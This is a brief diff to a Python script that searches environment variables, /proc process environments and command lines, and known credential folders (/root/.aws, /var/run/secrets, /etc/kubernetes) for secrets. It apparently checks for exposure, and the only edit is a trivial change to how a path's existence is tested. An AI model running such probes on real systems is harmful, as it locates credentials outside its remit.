@@ -276,7 +276,7 @@ found = [name for name in os.environ if "AWS" in name or "TOKEN" in name or "BRO
 found += [str(path) for path in Path("/proc").glob("[0-9]*/environ") if holds(path)]
 found += [str(path) for path in Path("/proc").glob("[0-9]*/cmdline") if holds(path)]
 for place in ("/var/run/secrets", "/run/secrets", "/jinsu/access", "/etc/kubernetes", "/root/.aws"):
-    found += [place] if Path(place).exists() else []
+    found += [place] if os.path.exists(place) else []
 for folder in ("/jinsu", "/tmp", "/var", "/run", "/home", "/etc"):
     for parent, _, names in os.walk(folder):
         if parent == str(root / "in/code"):
